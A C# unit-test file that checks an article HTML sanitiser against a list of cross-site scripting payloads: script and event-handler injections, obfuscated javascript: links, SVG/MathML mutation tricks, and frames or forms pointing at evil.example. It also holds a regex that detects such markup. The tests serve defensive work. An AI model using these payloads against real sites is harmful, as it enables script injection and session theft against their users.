using System.Text.RegularExpressions;
using Hutong.OfficialAccounts.Articles;

namespace Hutong.OfficialAccounts.Tests;

/// <summary>
/// The sanitiser against real attack strings: what runs, frames, or leaves through an address never survives, in any
/// spelling; ordinary formatting does. (The same strings go through the server in <see cref="ArticlesTests"/>.)
/// </summary>
public sealed partial class ArticleHtmlTests
{
    public static TheoryData<string> Attacks() => [.. AttackStrings];

    /// <summary>Attacks, each with words of its own that may survive as text (or nothing, when it is all payload).</summary>
    internal static readonly string[] AttackStrings =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"https://ok.example/a.png\" ONERROR=\"alert(1)\">",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<img src=\"//evil.example/x.png\">",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">click</a>",
        "<a href=\" javascript:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<IFRAME SRCDOC=\"<script>alert(1)</script>\"></IFRAME>",
        "<frameset><frame src=\"https://evil.example\"></frameset>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input name=q><button>go</button></form>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<p style=\"background-image:url(javascript:alert(1));color:red\">styled</p>",
        "<div style=\"width:expression(alert(1))\">old ie</div>",
        "<p onclick=\"alert(1)\" OnMouseOver=\"alert(1)\">handlers</p>",
        "<body onload=alert(1)>body</body>",
        "<base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<blink><img src=x onerror=alert(1)><a href=\"javascript:alert(1)\">blinking</a></blink>",
        "<custom-element onclick=alert(1)><p onclick=alert(1)>kids</p></custom-element>",
        "<font color=red>unclosed <scr<script>ipt>alert(1)</scr</script>ipt>",
        "<a href=\"https://ok.example\" target=\"_self\" rel=\"opener\">fine link</a>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Sanitize_AnAttack_LeavesNothingThatRunsFramesOrLeaks(string attack)
    {
        var clean = ArticleHtml.Sanitize($"<p>Before</p>{attack}<p>After</p>").Html;

        AssertHarmless(clean);
        Assert.Contains("<p>Before</p>", clean, StringComparison.Ordinal);
        Assert.EndsWith("<p>After</p>", clean, StringComparison.Ordinal);
        // Sanitising the result again changes nothing: what the browser parses is what was checked.
        Assert.Equal(clean, ArticleHtml.Sanitize(clean).Html);
    }

    [Fact]
    public void Sanitize_OrdinaryFormatting_IsKept()
    {
        const string html = "<h2>Tea</h2><p><strong>Bold</strong>, <em>italic</em>, <u>under</u> and <s>gone</s>.</p>"
            + "<ul><li>one</li></ul><ol start=\"3\"><li>three</li></ol><blockquote>quoted</blockquote>"
            + "<table><thead><tr><th>a</th></tr></thead><tbody><tr><td colspan=\"2\">b</td></tr></tbody></table>"
            + "<p style=\"color: red; position: fixed; text-align: center\">red</p><pre><code>x &lt; y</code></pre>";

        var clean = ArticleHtml.Sanitize(html).Html;

        foreach (var kept in new[] { "<h2>Tea</h2>", "<strong>Bold</strong>", "<em>italic</em>", "<u>under</u>", "<s>gone</s>", "<li>one</li>", "start=\"3\"",
            "<blockquote>quoted</blockquote>", "<th>a</th>", "colspan=\"2\"", "<code>x &lt; y</code>" })
        {
            Assert.Contains(kept, clean, StringComparison.Ordinal);
        }

        Assert.Matches("<p style=\"color: rgba?\\(255, 0, 0(, 1)?\\); text-align: center\">red</p>", clean);
        Assert.DoesNotContain("position", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Sanitize_Links_OpenApart_AndOnlyForTheWeb()
    {
        var clean = ArticleHtml.Sanitize(
            "<a href=\"https://ok.example/x?a=1&amp;b=2\" target=\"_self\" rel=\"opener\">web</a> <a href=\"mailto:tea@ok.example\">mail</a> "
            + "<a href=\"/api/v1/me\">relative</a> <a href=\"ftp://ok.example\">ftp</a>").Html;

        Assert.Contains("<a href=\"https://ok.example/x?a=1&amp;b=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">web</a>", clean, StringComparison.Ordinal);
        Assert.Contains("<a href=\"mailto:tea@ok.example\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">mail</a>", clean, StringComparison.Ordinal);
        Assert.Contains("<a>relative</a>", clean, StringComparison.Ordinal);
        Assert.Contains("<a>ftp</a>", clean, StringComparison.Ordinal);
    }

    [Fact]
    public void Sanitize_Images_AreTheNodesUploadsOrHttps()
    {
        var upload = Guid.CreateVersion7();
        var clean = ArticleHtml.Sanitize(
            $"<img src=\"/api/v1/media/{upload}\" alt=\"mine\"><img src=\"https://ok.example/a.png\"><img src=\"http://ok.example/b.png\">"
            + "<img src=\"/api/v1/me\"><img src=\"/api/v1/media/not-an-id\">");

        Assert.Equal($"<img src=\"/api/v1/media/{upload}\" alt=\"mine\"><img src=\"https://ok.example/a.png\">", clean.Html);
        Assert.Equal([upload], clean.MediaIds);
    }

    [Fact]
    public void Sanitize_Text_KeepsBlocksApart_AndWordsWhole()
    {
        var clean = ArticleHtml.Sanitize("<p>The leaves are <b>picked</b> early.</p><h2>How to brew</h2><ul><li>Warm the pot</li><li>Tea<i>pot</i></li></ul>");

        Assert.Equal("The leaves are picked early. How to brew Warm the pot Teapot", clean.Text);
    }

    [Fact]
    public void ForPublicPage_ServesUploadsThroughTheArticle()
    {
        var article = Guid.CreateVersion7();
        var upload = Guid.CreateVersion7();
        var stored = ArticleHtml.Sanitize($"<p>src=\"/api/v1/media/{upload}\"</p><img src=\"/api/v1/media/{upload}\"><img src=\"https://ok.example/a.png\">").Html;

        var shown = ArticleHtml.ForPublicPage(stored, article);

        Assert.Equal($"<p>src=\"/api/v1/media/{upload}\"</p><img src=\"/a/{article}/media/{upload}\"><img src=\"https://ok.example/a.png\">", shown);
    }

    internal static void AssertHarmless(string html)
    {
        Assert.DoesNotMatch(Dangerous(), html);
        Assert.DoesNotMatch(Handler(), html);
    }

    [GeneratedRegex(@"<\s*/?\s*(script|style|iframe|frame|frameset|object|embed|form|input|button|svg|math|base|link|meta|noscript|details|video|audio|source|body)\b|javascript:|vbscript:|data:|expression\(|srcdoc|xlink|url\(|evil\.example|<!--", RegexOptions.IgnoreCase)]
    private static partial Regex Dangerous();

    [GeneratedRegex(@"<[^>]*\son[a-z]+\s*=", RegexOptions.IgnoreCase)]
    private static partial Regex Handler();
}
